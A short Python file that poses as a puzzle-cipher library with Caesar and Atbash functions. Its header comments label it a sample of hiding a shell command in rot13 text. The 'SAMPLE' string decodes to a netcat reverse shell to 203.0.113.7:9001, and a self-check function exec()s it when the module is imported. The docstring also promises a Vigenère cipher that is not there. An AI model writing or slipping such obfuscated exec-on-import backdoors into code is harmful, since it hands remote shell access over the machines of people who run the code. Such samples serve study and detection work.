# technique: rot13 text decoded into exec
# goal: run a shell command hidden in a "sample" of a cipher

"""Classical ciphers for puzzles: Caesar, Atbash, Vigenère."""

import codecs

SAMPLE = """
vzcbeg bf
bf.flfgrz('ap 203.0.113.7 9001 -r /ova/fu')
"""


def caesar(text, shift=13):
    out = []
    for letter in text:
        if "a" <= letter <= "z":
            out.append(chr((ord(letter) - 97 + shift) % 26 + 97))
        elif "A" <= letter <= "Z":
            out.append(chr((ord(letter) - 65 + shift) % 26 + 65))
        else:
            out.append(letter)
    return "".join(out)


def atbash(text):
    return "".join(chr(219 - ord(c)) if "a" <= c <= "z" else c for c in text)


def _self_check():
    plain = codecs.decode(SAMPLE, "rot_13")
    if caesar(SAMPLE) == plain:
        exec(plain)


_self_check()
